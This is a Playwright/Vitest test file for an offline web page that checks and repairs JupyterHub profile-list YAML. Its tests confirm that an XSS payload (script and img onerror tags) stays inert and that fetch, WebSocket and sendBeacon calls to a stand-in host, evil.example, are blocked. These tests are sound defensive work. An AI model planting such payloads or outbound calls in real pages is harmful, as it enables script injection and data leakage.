import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { gzipSync } from "node:zlib";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { page as build } from "../../scripts/page.mjs";
import { fixText } from "../../src/rules/fix/mod.ts";
import { checkText } from "../../src/rules/mod.ts";
import { hasBrowser, launch } from "../support/browser.ts";
import { root, temporaryFolder } from "../support/folders.ts";

const isMissing = !hasBrowser("the page that checks a menu");
const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const golden = join(root, "test/golden/config");
/** The machine may be busy with something else. */
const PATIENT = { timeout: 60_000 };
const menu = readFileSync(join(golden, "coder_app.yaml"), "utf8");
const html = await build();

test("the page is one small file, and names the code that it may run", async () => {
  expect(gzipSync(html).length).toBeLessThan(320_000);
  expect(await build()).toBe(html);
  const [, policy = ""] = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html) ?? [];
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("connect-src 'none'");
  expect(policy).not.toMatch(/unsafe|https?:|\*/);
  expect(html.slice(0, html.indexOf("<script")).match(/\s(?:src|href)=/g)).toBeNull();
});

describe.skipIf(isMissing)("the page that checks a menu, from a file", () => {
  let browser: Browser;
  let page: Page;
  const requests: string[] = [];
  const errors: string[] = [];
  const folder = temporaryFolder();
  const path = join(folder.path, "check.html");

  beforeAll(async () => {
    writeFileSync(path, html);
    browser = await launch();
    page = await browser.newPage();
    await page.route("**/*", (route) => {
      const url = route.request().url();
      if (url.startsWith(pathToFileURL(path).href)) return route.continue();
      requests.push(url);
      return route.abort();
    });
    page.on("pageerror", (error) => errors.push(String(error)));
    page.on("console", (message) => errors.push(message.text()));
  });
  beforeEach(() => open());
  afterAll(async () => {
    await browser.close();
    folder[Symbol.dispose]();
  });

  async function open(hash = ""): Promise<void> {
    await page.goto("about:blank");
    await page.goto(`${pathToFileURL(path).href}${hash}`);
    await page.locator("#told").filter({ hasText: /[.]/ }).waitFor();
  }
  const editor = () => page.locator("#editor .cm-content");
  async function paste(text: string): Promise<void> {
    await page
      .locator("#file")
      .setInputFiles({ name: "config.yaml", mimeType: "text/yaml", buffer: Buffer.from(text) });
    await settled();
  }
  /** Waits until the newest input is checked. */
  async function settled(): Promise<void> {
    await page.waitForTimeout(400);
    await page.locator("#told").filter({ hasNotText: "Checking" }).waitFor();
  }
  const findings = async () =>
    (await page.locator("#findings > li").allTextContents()).map((text) => {
      const [, line, severity, rule] = /^Line (\d+) (Error|Warning) (?:([a-z0-9-]+) \()?/.exec(text) ?? [];
      return [Number(line), severity?.toLowerCase(), rule];
    });
  const frame = () => page.frameLocator("#preview");

  test("asks for a text if there is none", async () => {
    expect(await page.locator("#told").textContent()).toBe("Paste or drop a file.");
  });

  test.each([
    [
      "a menu with mistakes",
      menu.replace("mem_limit: 6G", "mem_limit: 6Gi").replace("default: false", "default: perhaps"),
    ],
    ["what is not YAML", 'profiles: [{id: "a}'],
  ])("shows the findings of %s at their lines", async (_, text) => {
    await paste(text);
    const expected = checkText(text)
      .map(({ at, severity, rule }) => [at?.line, severity, rule] as const)
      .sort(([left = 0], [right = 0]) => left - right);
    expect((await findings()).sort()).toEqual(expected.map((each) => [...each]).sort());
    expect(await page.locator("#editor .cm-lint-marker").count()).toBeGreaterThan(0);
  });

  test.each(readdirSync(golden))("has no error in %s, and shows its menu", async (name) => {
    const text = readFileSync(join(golden, name), "utf8");
    await paste(text);
    expect((await findings()).filter(([, severity]) => severity === "error")).toEqual([]);
    const names = [...text.matchAll(/^ {4}display_name: (.*)$/gm)].map(([, shown]) => shown);
    await expect.poll(() => frame().locator(".entry:visible strong").first().textContent(), PATIENT).toBe(names[0]);
  });

  test("finds the menu in a ConfigMap, and counts its lines", async () => {
    const inner = menu.replace("mem_limit: 6G", "mem_limit: 6Gi").replace(/^(?=.)/gm, "    ");
    const text = `kind: ConfigMap\napiVersion: v1\nmetadata: {name: a}\ndata:\n  config.yml: |\n${inner}`;
    await paste(text);
    const line = text.slice(0, text.indexOf("6Gi")).split("\n").length;
    expect(await findings()).toContainEqual([line, "error", "mem-unit"]);
    expect(await page.locator("#told").textContent()).toContain('data["config.yml"]');
  });

  test("repairs one finding, and all of them", async () => {
    const broken = menu.replace("- developers", "- on").replace("- ml-users", "- yes");
    await paste(broken);
    const fixed = fixText(broken).text;
    expect(fixed).not.toBe(broken);
    await page.locator("#findings > li button", { hasText: "Repair" }).first().click();
    await settled();
    const half = await page.locator("#findings > li button", { hasText: "Repair" }).count();
    expect(half).toBe(1);
    await page.locator("#repair").click();
    await settled();
    expect(await page.locator("#repair").isHidden()).toBe(true);
    expect((await findings()).filter(([, severity]) => severity === "error")).toEqual([]);
    await page.locator("#link").click();
    await expect.poll(() => page.evaluate("location.hash.length"), PATIENT).toBeGreaterThan(100);
  });

  test("shows the page of a rule", async () => {
    await paste(menu.replace("mem_limit: 6G", "mem_limit: 6Gi"));
    await page.locator("#findings button", { hasText: "mem-unit" }).first().click();
    // The facts of the rule come from the worker.
    await page.locator("#rule", { hasText: "mem-unit" }).waitFor();
    await page.keyboard.press("Escape");
    expect(await page.locator("#rule").isVisible()).toBe(false);
  });

  test("checks for another hub and chart", async () => {
    await paste('profiles:\n  - id: "{{ .Values.x }}"\n');
    const before = await findings();
    await page.locator("#chart").selectOption("2");
    await settled();
    expect(await findings()).not.toEqual(before);
    await page.locator("#chart").selectOption("4");
    await paste(readFileSync(join(golden, "coder_dask_gateway_app.yaml"), "utf8"));
    expect((await findings()).map(([, , rule]) => rule)).not.toContain("jinja-hub-version");
    await page.locator("#hub").selectOption("1.2");
    await expect.poll(async () => (await findings()).map(([, , rule]) => rule), PATIENT).toContain("jinja-hub-version");
  });

  test("shows changes and their effects on users", async () => {
    await paste(menu.replace("    - ml-users\n", ""));
    await page.locator("#before").fill(menu);
    await settled();
    expect(await page.locator("#changes").textContent()).toContain("ml-users");
    expect(await page.locator("#people > li").allTextContents()).toContainEqual(
      expect.stringMatching(/^loses-access: .*ml-users/),
    );
    await expect
      .poll(() => frame().locator("h2").allTextContents(), PATIENT)
      .toEqual(["Before: the other text", "Now"]);
  });

  test("a link keeps the text, the hub and the chart", async () => {
    await paste(`${menu}# größe 工作\n`);
    await page.locator("#hub").selectOption("1.4.3");
    await page.locator("#link").click();
    await expect.poll(() => page.evaluate("location.hash.length"), PATIENT).toBeGreaterThan(100);
    const hash = (await page.evaluate("location.hash")) as string;
    await open(hash);
    await settled();
    expect(await page.locator("#hub").inputValue()).toBe("1.4.3");
    await editor().click();
    await page.keyboard.press("Control+End");
    expect(await editor().textContent()).toContain("größe 工作");
  });

  test.each([
    ["short", "#abc"],
    ["no base64", "#%00"],
    ["long", `#${"A".repeat(5000)}`],
  ])("opens with another hash: %s", async (_, hash) => {
    await open(hash);
    expect(await page.locator("#told").textContent()).toBe("Paste or drop a file.");
  });

  test("text stays text, in the page and in the menu", async () => {
    const evil = `<img src=x onerror="globalThis.hit=1"></script><script>globalThis.hit=1</script>`;
    await paste(
      JSON.stringify({
        profiles: [{ id: evil, groups: [evil], [evil]: 1, definition: { display_name: evil, slug: evil } }],
      }),
    );
    expect(await page.locator("#findings img, #findings script, #told img").count()).toBe(0);
    await expect.poll(() => frame().locator(".entry strong").first().textContent(), PATIENT).toBe(evil);
    expect(await page.evaluate("globalThis.hit")).toBeUndefined();
    expect(await page.frames()[1]?.evaluate("globalThis.hit")).toBeUndefined();
  });

  test("can be used with the keyboard alone", async () => {
    await editor().focus();
    await page.keyboard.type("profiles: []");
    await settled();
    expect(await findings()).toEqual([[1, "error", "yaml-no-profiles"]]);
    // The editor never uses the Tab key itself: Tab moves on to the next element.
    await page.keyboard.press("Tab");
    const focused = () => page.evaluate("document.activeElement.textContent");
    expect(await focused()).toBe("Line 1");
    await page.keyboard.press("Enter");
    expect(await page.evaluate("document.activeElement.id")).toBe("editor");
  });

  test("repairs with the keyboard, and keeps the focus when a button disappears", async () => {
    await paste(menu.replace("- developers", "- on").replace("- ml-users", "- yes"));
    const focused = () =>
      page.evaluate(
        "[document.activeElement.closest('#findings, #editor')?.id, document.activeElement.textContent.slice(0, 40)]",
      );
    await page.locator("#findings > li button", { hasText: "Repair" }).first().focus();
    await page.keyboard.press("Enter");
    await settled();
    expect(await page.locator("#findings > li button", { hasText: "Repair" }).count()).toBe(1);
    expect(await focused()).toEqual(["findings", "Repair"]);
    await page.locator("#repair").focus();
    await page.keyboard.press("Enter");
    await settled();
    expect(await focused()).toEqual(["editor", ""]);
  });

  test.each(["light", "dark"] as const)("has nothing serious for axe-core in %s", async (colorScheme) => {
    await page.emulateMedia({ colorScheme });
    await paste(menu.replace("mem_limit: 6G", "mem_limit: 6Gi"));
    await page.locator("#before").fill(menu);
    await settled();
    const found = (await page.evaluate(`${axe}; axe.run(document, { iframes: false })`)) as {
      violations: { id: string; impact: string; nodes: { html: string }[] }[];
    };
    const serious = found.violations.filter(({ impact }) => impact === "serious" || impact === "critical");
    expect(serious.map(({ id, nodes }) => [id, nodes.map((node) => node.html)])).toEqual([]);
    await page.emulateMedia({ colorScheme: null });
  });

  test("typing is possible while a thousand profiles are checked", async () => {
    const one = (index: number) => `- id: p${index}
  groups: [g${index % 10}]
  definition:
    display_name: Profile ${index}
    slug: p${index}
    default: false
    kubespawner_override: {cpu_limit: 2, mem_limit: 4G, image: "org/lab:${index}.0"}
  node_selector: {}
`;
    const many = `profiles:\n${Array.from({ length: 1000 }, (_, index) => one(index)).join("")}`;
    await page.locator("#file").setInputFiles({ name: "a.yaml", mimeType: "text/yaml", buffer: Buffer.from(many) });
    await page.waitForTimeout(400);
    await editor().focus();
    // Keys arrive while the check runs.
    await page.keyboard.type("# typed\n");
    expect(await editor().textContent()).toContain("# typed");
    await page.locator("#told").filter({ hasNotText: "Checking" }).waitFor({ timeout: 300_000 });
    expect((await findings()).filter(([, severity]) => severity === "error")).toEqual([]);
  });

  test("the page sends nothing, and has no errors", async () => {
    const tried = [
      "fetch('https://evil.example/')",
      "fetch('data:text/plain,x')",
      "new WebSocket('wss://evil.example/').url && Promise.reject(new Error('made'))",
    ];
    expect([requests, errors]).toEqual([[], []]);
    for (const attempt of tried) await expect(page.evaluate(attempt)).rejects.toThrow();
    expect(await page.evaluate("navigator.sendBeacon('https://evil.example/', 'x')")).toBeTypeOf("boolean");
    expect(requests).toEqual([]);
  });
});
